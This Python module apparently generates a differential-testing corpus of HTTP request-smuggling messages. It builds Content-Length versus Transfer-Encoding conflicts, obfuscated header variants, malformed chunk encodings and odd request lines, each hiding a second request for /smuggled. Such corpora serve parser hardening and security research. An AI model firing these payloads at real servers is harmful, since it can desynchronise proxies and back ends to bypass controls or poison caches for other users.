"""Requests that two readers may understand differently: facts from research on request smuggling, written anew.

A reader that is deceived sees a request for /smuggled.
"""

from collections.abc import Iterator

HIDDEN = b"GET /smuggled/0000 HTTP/1.1\r\nHost: a\r\n\r\n"
START = b"POST /outer/0000 HTTP/1.1\r\nHost: a\r\n"
# bytes to place within names and values
ODD = (0, 1, 4, 8, 9, 10, 11, 12, 13, 31, 32, 34, 44, 59, 95, 127, 128, 160, 173, 255)


def by_length(line: bytes) -> bytes:
    """A reader that counts bytes sees one request, and one that counts chunks sees two."""
    body = b"0\r\n\r\n" + HIDDEN
    return START + b"Content-Length: %d\r\n" % len(body) + line + b"\r\n\r\n" + body


def by_chunks(line: bytes) -> bytes:
    """A reader that counts chunks sees one request, and one that counts bytes sees two."""
    size = b"%x\r\n" % len(HIDDEN)
    return START + line + b"\r\nContent-Length: %d\r\n\r\n" % len(size) + size + HIDDEN + b"\r\n0\r\n\r\n"


def of_length(line: bytes) -> bytes:
    """A reader that ignores this length sees two requests; `N` stands for the right length."""
    return START + line.replace(b"N", b"%d" % len(HIDDEN)) + b"\r\n\r\n" + HIDDEN


def in_chunks(body: bytes, end: bytes = b"0\r\n\r\n") -> bytes:
    return START + b"Transfer-Encoding: chunked\r\n\r\n" + body + end


CODINGS = [
    b"Transfer-Encoding: chunked",
    b"Transfer-Encoding:chunked",
    b"Transfer-Encoding:  chunked",
    b"TRANSFER-ENCODING: CHUNKED",
    b"Transfer-Encoding : chunked",
    b"Transfer-Encoding\t: chunked",
    b" Transfer-Encoding: chunked",
    b"\tTransfer-Encoding: chunked",
    b"Transfer-Encoding:\r\n chunked",
    b"Transfer-Encoding: x\r\n chunked",
    b"Transfer-Encoding:\n chunked",
    b"X: y\r\n\r Transfer-Encoding: chunked",
    b"X: y\rTransfer-Encoding: chunked",
    b"X: y\nTransfer-Encoding: chunked",
    b"Transfer-Encoding\r\n: chunked",
    b"Transfer-Encoding\n: chunked",
    b'Transfer-Encoding: "chunked"',
    b"Transfer-Encoding: 'chunked'",
    b"Transfer-Encoding: chunk",
    b"Transfer-Encoding: xchunked",
    b"Transfer-Encoding: chunkedx",
    b"Transfer-Encoding: chunked;a=b",
    b"Transfer-Encoding: chunked,",
    b"Transfer-Encoding: ,chunked",
    b"Transfer-Encoding: chunked, identity",
    b"Transfer-Encoding: identity, chunked",
    b"Transfer-Encoding: gzip, chunked",
    b"Transfer-Encoding: chunked, gzip",
    b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding:\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding:",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
    b"Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
    b"Transfer_Encoding: chunked",
    b"TransferEncoding: chunked",
    b"Transfer Encoding: chunked",
    b"Content-Encoding: chunked",
    b"X-Transfer-Encoding: chunked",
    b"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
    b"Connection: Content-Length\r\nTransfer-Encoding: chunked",
    b"TE: chunked",
    b"Transfer-Encoding: ch\xc3\xbcnked",
    b"Transfer-Encodin\xc4\x9f: chunked",
    b"X: " + b"a" * 9000 + b"\r\nTransfer-Encoding: chunked",
]
LENGTHS = [
    b"Content-Length: N",
    b"Content-Length:N",
    b"Content-Length: N ",
    b"Content-Length: N\t",
    b"Content-Length:\tN",
    b"content-length: N",
    b"Content-Length: 0N",
    b"Content-Length: 00000000000000000000N",
    b"Content-Length: +N",
    b"Content-Length: -0",
    b"Content-Length: -N",
    b"Content-Length: 0xN",
    b"Content-Length: N, N",
    b"Content-Length: N,N",
    b"Content-Length: 0, N",
    b"Content-Length: N, 0",
    b"Content-Length: ,N",
    b"Content-Length: N,",
    b"Content-Length: N N",
    b"Content-Length: 0 N",
    b"Content-Length: N;a",
    b"Content-Length: N.0",
    b"Content-Length: Ne0",
    b"Content-Length: N_0",
    b'Content-Length: "N"',
    b"Content-Length: N\r\nContent-Length: N",
    b"Content-Length: N\r\nContent-Length: 0",
    b"Content-Length: 0\r\nContent-Length: N",
    b"Content-Length:\r\nContent-Length: N",
    b"Content-Length: N\r\nContent-Length:",
    b"Content-Length:",
    b"Content-Length : N",
    b" Content-Length: N",
    b"Content-Length:\r\n N",
    b"Content-Length: \r\n\tN",
    b"X: y\rContent-Length: N",
    b"X: y\nContent-Length: N",
    b"Content-Length\0: N",
    b"Content-Length: N\0",
    b"Content_Length: N",
    b"Content Length: N",
    b"Content-Length: \x0bN",
    b"Content-Length: N\x0c",
    b"Content-Length: 18446744073709551616",
    b"Content-Length: 4294967296",
    b"Content-Length: \xd9\xa3\xd9\xa6",
    b"Connection: Content-Length\r\nContent-Length: N",
    b"Connection: close, Content-Length\r\nContent-Length: N",
    b"Expect: 100-continue\r\nContent-Length: N",
    b"Expect: y 100-continue\r\nContent-Length: N",
    b"Expect: 100-continue, x\r\nContent-Length: N",
    b"Expect:\r\n 100-continue\r\nContent-Length: N",
    b"Expect: 100-Continue\r\nExpect: x\r\nContent-Length: N",
    b"Expect: x\r\nContent-Length: N",
    b"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA"
    b"\r\nContent-Length: N",
    b"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 99\r\nSec-WebSocket-Key: eA=="
    b"\r\nContent-Length: N",
]
SIZE = b"%x" % len(HIDDEN)
HID = HIDDEN + b"\r\n"
CHUNKS = [
    SIZE + b"\r\n" + HID,
    b"0" * 30 + SIZE + b"\r\n" + HID,
    b"0x" + SIZE + b"\r\n" + HID,
    b"+" + SIZE + b"\r\n" + HID,
    b"-" + SIZE + b"\r\n" + HID,
    b" " + SIZE + b"\r\n" + HID,
    SIZE + b" \r\n" + HID,
    SIZE + b"\t\r\n" + HID,
    SIZE + b" ;a\r\n" + HID,
    SIZE + b";\r\n" + HID,
    SIZE + b";a=b\r\n" + HID,
    SIZE + b';a="b"\r\n' + HID,
    SIZE + b';a="\r\n' + HID,
    SIZE + b";a\nb\r\n" + HID,
    SIZE + b";\n" + HID,
    SIZE + b";a\rb\r\n" + HID,
    SIZE + b";\0\r\n" + HID,
    SIZE + b"\n" + HID,
    SIZE + b"\r" + HID,
    SIZE + b"\r\r\n" + HID,
    SIZE + b"\r\nX" + HID,
    SIZE + b"x\r\n" + HID,
    SIZE + b"_0\r\n" + HID,
    SIZE + b".0\r\n" + HID,
    b"1" + b"0" * 15 + SIZE + b"\r\n" + HID,
    b"1" + b"0" * 16 + SIZE + b"\r\n" + HID,
    b"f" * 16 + b"\r\n" + HID,
    b"ffffffff\r\n" + HID,
    b"\r\n" + HID,
    b"\r\n0\r\n\r\n" + HID,
    SIZE + b"\r\n" + HIDDEN + b"\n",
    SIZE + b"\r\n" + HIDDEN + b"XX",
    SIZE + b"\r\n" + HIDDEN + b"0",
    SIZE + b"\r\n" + HIDDEN,
    SIZE + b"\r\n" + HIDDEN + b"\r\r\n",
    b"0\n\r\n" + HID,
    b"0\r\n\n" + HID,
    b"0\n\n" + HID,
    b"00\r\n\r\n" + HID,
    b"-0\r\n\r\n" + HID,
    b"0 \r\n\r\n" + HID,
    b"0;\r\n\r\n" + HID,
    b"0\r\nX: y\n\n" + HID,
    b"0\r\nX\r\n\r\n" + HID,
    b"0\r\n X: y\r\n\r\n" + HID,
    b"0\r\nX: y\r\n z\r\n\r\n" + HID,
    b"0\r\nX : y\r\n\r\n" + HID,
    b"0\r\n\0\r\n\r\n" + HID,
    b"0\r\nX: \0\r\n\r\n" + HID,
    b"0\r\nContent-Length: %d\r\n\r\n" % len(HIDDEN) + HID,
    b"0\r\nTransfer-Encoding: chunked\r\n\r\n" + HID,
    b"2\r\n\r\n\r\n" + SIZE + b";a=b;c\r\n" + HID,
]
LINES = [
    b"GET /outer/0000 HTTP/1.1\nHost: a\n\n",
    b"GET /outer/0000 HTTP/1.1\r\nHost: a\n\r\n",
    b"GET /outer/0000 HTTP/1.1\r\nHost: a\r\n\n",
    b"GET /outer/0000 HTTP/1.1\rHost: a\r\r",
    b"GET /outer/0000 HTTP/1.1\r\n\r\nGET /smuggled/0000 HTTP/1.0\r\n\r\n",
    b"GET /outer/0000 HTTP/1.0\r\n\r\n",
    b"GET /outer/0000 HTTP/1.0\r\nConnection: keep-alive\r\n\r\n",
    b"GET /outer/0000\r\n\r\n",
    b"GET /outer/0000\r\nHost: a\r\n\r\n",
    b"GET /outer/0000 HTTP/1.1 HTTP/1.1\r\nHost: a\r\n\r\n",
    b"GET /outer/0000  HTTP/1.1\r\nHost: a\r\n\r\n",
    b"GET\t/outer/0000\tHTTP/1.1\r\nHost: a\r\n\r\n",
    b"GET /outer/0000\x0bHTTP/1.1\r\nHost: a\r\n\r\n",
    b"GET /outer/0000 HTTP/1.1 \r\nHost: a\r\n\r\n",
    b"GET /outer/0000 http/1.1\r\nHost: a\r\n\r\n",
    b"GET /outer/0000 HTTP/1.10\r\nHost: a\r\n\r\n",
    b"GET /outer/0000 HTTP/01.1\r\nHost: a\r\n\r\n",
    b"GET /outer/0000 HTTP/2.0\r\nHost: a\r\n\r\n",
    b"GET /outer/0000 HTTP/0.9\r\n\r\n",
    b"GET /outer/0000 HTTP/1.2\r\nHost: a\r\n\r\n",
    b"GET /outer/0000 HTTP/1,1\r\nHost: a\r\n\r\n",
    b"GET /outer/0000 HTTP 1.1\r\nHost: a\r\n\r\n",
    b" GET /outer/0000 HTTP/1.1\r\nHost: a\r\n\r\n",
    b"\nGET /outer/0000 HTTP/1.1\r\nHost: a\r\n\r\n",
    b"\r\nGET /outer/0000 HTTP/1.1\r\nHost: a\r\n\r\n",
    b"\r\n\r\nGET /outer/0000 HTTP/1.1\r\nHost: a\r\n\r\n",
    b"\0GET /outer/0000 HTTP/1.1\r\nHost: a\r\n\r\n",
    b"\rGET /outer/0000 HTTP/1.1\r\nHost: a\r\n\r\n",
    b"GET http://b/outer/0000 HTTP/1.1\r\nHost: a\r\n\r\n",
    b"GET http://b:80@a/outer/0000 HTTP/1.1\r\nHost: a\r\n\r\n",
    b"GET //b/outer/0000 HTTP/1.1\r\nHost: a\r\n\r\n",
    b"GET http:///outer/0000 HTTP/1.1\r\nHost: a\r\n\r\n",
    b"GET /outer/0000#?/smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    b"GET /outer/0000\0/smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    b"GET /outer/0000%0d%0aX:%20y HTTP/1.1\r\nHost: a\r\n\r\n",
    b"GET /outer/0000?a b HTTP/1.1\r\nHost: a\r\n\r\n",
    b"GET /outer/0000 HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
    b"GET /outer/0000 HTTP/1.1\r\nHost: a, b\r\n\r\n",
    b"GET /outer/0000 HTTP/1.1\r\nHost: a/b\r\n\r\n",
    b"GET /outer/0000 HTTP/1.1\r\nHost : a\r\n\r\n",
    b"GET /outer/0000 HTTP/1.1\r\n Host: a\r\n\r\n",
    b"GET /outer/0000 HTTP/1.1\r\nHost:\r\n\r\n",
    b"GET /outer/0000 HTTP/1.1\r\nHost: a:b\r\n\r\n",
    b"GET /outer/0000 HTTP/1.1\r\nHost: [a\r\n\r\n",
    b"GET /outer/0000 HTTP/1.1\r\nHost: a\0\r\n\r\n",
    b"CONNECT a:80 HTTP/1.1\r\nHost: a\r\n\r\n" + HIDDEN,
    b"TRACE /outer/0000 HTTP/1.1\r\nHost: a\r\n\r\n",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + HIDDEN,
    b"OPTIONS * HTTP/1.1\r\nHost: a\r\n\r\n",
    b"GET /outer/0000 HTTP/1.1\r\nHost: a\r\nX\r\n\r\n",
    b"GET /outer/0000 HTTP/1.1\r\nHost: a\r\n: y\r\n\r\n",
    b"GET /outer/0000 HTTP/1.1\r\nHost: a\r\n\r\r\n" + HIDDEN,
]


def messages() -> list[bytes]:
    """All of them. Each path ends with the message's number."""
    return [raw.replace(b"/0000", b"/%04d" % at) for at, raw in enumerate(_messages())]


def _messages() -> Iterator[bytes]:
    for line in CODINGS:
        yield by_length(line)
        yield by_chunks(line)
    for odd in ODD:
        yield from with_byte(bytes([odd]))
    for line in LENGTHS:
        yield of_length(line)
        for method in (b"GET", b"HEAD", b"OPTIONS", b"DELETE"):
            yield of_length(line).replace(b"POST", method, 1)
        yield of_length(line).replace(b"HTTP/1.1", b"HTTP/1.0", 1)
    for body in CHUNKS:
        yield in_chunks(body)
        yield in_chunks(body).replace(b"HTTP/1.1", b"HTTP/1.0", 1)
    yield from LINES


def with_byte(odd: bytes) -> Iterator[bytes]:
    """A Transfer-Encoding line with one more byte, in every place where it can stand."""
    for line in (
        odd + b"Transfer-Encoding: chunked",
        b"Transfer" + odd + b"Encoding: chunked",
        b"Transfer-Encoding" + odd + b": chunked",
        b"Transfer-Encoding:" + odd + b"chunked",
        b"Transfer-Encoding: chunked" + odd,
        b"X: y" + odd + b"Transfer-Encoding: chunked",
    ):
        yield by_length(line)
        yield by_chunks(line)
